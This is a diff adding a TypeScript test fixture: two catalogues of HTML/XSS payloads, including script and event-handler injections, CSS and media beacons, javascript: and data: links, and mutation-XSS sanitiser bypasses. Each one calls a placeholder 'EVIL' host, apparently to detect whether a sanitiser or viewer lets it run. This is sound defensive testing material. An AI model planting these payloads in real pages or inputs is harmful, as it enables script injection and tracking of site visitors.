@@ -1,0 +1,77 @@
+/**
+ * HTML that attacks whoever looks at it. `EVIL` stands for an address where a request is counted; a script that runs
+ * requests `EVIL/ran`, so that running and loading are seen in the same place.
+ */
+const run = "new Image().src='EVIL/ran'";
+
+/** Those that act in a browser by themselves: without any protection they are seen, which proves that we look. */
+export const actsAlone: Readonly<Record<string, string>> = {
+  script: `<script>${run}</script>`,
+  'image error': `<img src="x:" onerror="${run}">`,
+  'image load': '<img src="EVIL/image">',
+  'svg load': `<svg onload="${run}"></svg>`,
+  'svg image': '<svg><image href="EVIL/svg-image" width="9" height="9"/></svg>',
+  'svg filter image':
+    '<svg width="9" height="9"><filter id="f"><feImage href="EVIL/fe"/></filter><rect width="9" height="9" filter="url(#f)"/></svg>',
+  'style import': '<style>@import "EVIL/import.css";</style>',
+  'style address': '<div style="background:url(EVIL/background)">x</div>',
+  'style sheet': '<link rel="stylesheet" href="EVIL/sheet.css">',
+  'background attribute': '<table background="EVIL/table"><tr><td>x</td></tr></table>',
+  'source set': '<img srcset="EVIL/set 1x" src="data:,">',
+  picture: '<picture><source srcset="EVIL/picture"><img src="data:,"></picture>',
+  video: '<video src="EVIL/video" poster="EVIL/poster" autoplay></video>',
+  audio: '<audio src="EVIL/audio" autoplay></audio>',
+  frame: '<iframe src="EVIL/frame"></iframe>',
+  'frame of a document': `<iframe srcdoc="<script>parent.location</script><img src='EVIL/srcdoc'>"></iframe>`,
+  object: '<object data="EVIL/object"></object>',
+  embed: '<embed src="EVIL/embed">',
+  'input picture': '<input type="image" src="EVIL/input">',
+  'base and picture': '<base href="EVIL/"><img src="based">',
+  'meta refresh': '<meta http-equiv="refresh" content="0;url=EVIL/refresh">',
+  details: `<details open ontoggle="${run}">x</details>`,
+  'autofocus input': `<input autofocus onfocus="${run}">`,
+  'style animation': `<style>@keyframes k{from{left:0}}b{animation:k 1s}</style><b onanimationstart="${run}">x</b>`,
+  'unquoted attribute': `<img src=x: onerror=fetch(&#39;EVIL/ran&#39;)>`,
+  'slash for a space': `<svg/onload="${run}">`,
+  'line ends in a tag': `<img\r\nsrc="x:"\r\nonerror\r\n=\r\n"${run}"\r\n>`,
+  'list picture': '<ul style="list-style-image:url(EVIL/list)"><li>x</ul>',
+  'content picture': '<style>b::after{content:url(EVIL/content)}</style><b>x</b>',
+  font: '<style>@font-face{font-family:f;src:url(EVIL/font)}b{font-family:f}</style><b>x</b>',
+  'body handler': `</div><body onload="${run}">`,
+  prefetch: '<link rel="preload" as="image" href="EVIL/preload">',
+};
+
+/** Those that need a sanitiser's mistake, a click, or another program. */
+export const actsWithHelp: Readonly<Record<string, string>> = {
+  'math and style': `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x: onerror=${run}&gt;">`,
+  'svg and style': `<svg></p><style><a id="</style><img src=x: onerror=${run}>">`,
+  'form in form': `<form><math><mtext></form><form><mglyph><style></math><img src=x: onerror="${run}">`,
+  'title in svg': `<svg><title><style><img src="</style></title><img src=x: onerror='${run}'>">`,
+  noscript: `<noscript><p title="</noscript><img src=x: onerror=${run}>"></noscript>`,
+  template: `<template><img src=x: onerror="${run}"></template>`,
+  textarea: `<textarea><img title="</textarea><img src=x: onerror=${run}>">`,
+  'raw text names': `<xmp><p title="</xmp><img src=x: onerror=${run}>"><listing>&lt;img onerror=1></listing><plaintext><script>${run}</script>`,
+  comment: `<!--><img src=x: onerror="${run}"--> <!--- --!><img src=x: onerror="${run}">`,
+  cdata: `<![CDATA[><img src=x: onerror="${run}">]]>`,
+  'processing instruction': `<?x ><img src=x: onerror="${run}">?>`,
+  'script address': '<a href="javascript:fetch(\'EVIL/ran\')">x</a>',
+  'script address with a tab': '<a href="java\tscript&colon;fetch(\'EVIL/ran\')">x</a>',
+  'data address': `<a href="data:text/html,<script>${run}</script>">x</a>`,
+  'form and button': '<form action="EVIL/form"><button>x</button><input name=a></form>',
+  'button elsewhere': '<button form="f" formaction="EVIL/form">x</button>',
+  'map area': '<map name=m><area href="EVIL/area" shape=default></map><img usemap="#m" src="data:,">',
+  'entity for a tag': `&lt;script&gt;${run}&lt;/script&gt;`,
+  'entity twice': `&amp;lt;img src=x: onerror=${run}&amp;gt;`,
+  'NUL in a tag': `<scr\u0000ipt>${run}</scr\u0000ipt><im\u0000g src=x: onerror="${run}">`,
+  'tag in a tag': `<scr<script>ipt>${run}</scr</script>ipt>`,
+  'attribute of ours': `<span data-leads-to='"><img src=x: onerror="${run}">'>x</span>`,
+  'mark of ours in a link': `<a href='"><img src=x: onerror="${run}">'>x</a>`,
+  'mark of ours in a picture': `<img alt='"><img src=x: onerror="${run}">'>`,
+  'class of ours': '<span class="leads" id="x" style="position:fixed;inset:0">x</span>',
+  'cells without end': '<table><tr><td colspan="1000000" rowspan="65534">x</td></tr></table>',
+  'select and script': `<select><option><script>${run}</script><option></select>`,
+  'isindex and keygen': '<isindex action="EVIL/is" type=image><keygen>',
+  'custom element': `<x-a onclick="${run}" tabindex=1 autofocus onfocus="${run}">x</x-a>`,
+  'half a tag': `<img src=x: onerror="${run}`,
+  prototype: '<a __proto__="x" constructor="y" href="EVIL/p">x</a><__proto__>x</__proto__><constructor>x',
+};
